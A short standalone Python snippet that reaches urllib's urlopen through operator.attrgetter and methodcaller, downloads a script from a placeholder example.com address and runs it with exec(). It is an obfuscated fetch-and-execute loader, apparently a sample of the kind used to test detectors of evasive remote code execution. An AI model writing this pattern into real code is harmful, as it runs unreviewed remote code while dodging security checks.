import operator
import urllib.request

read = operator.methodcaller("read")
opened = operator.attrgetter("request.urlopen")(urllib)("https://example.com/op.py")
exec(read(opened))
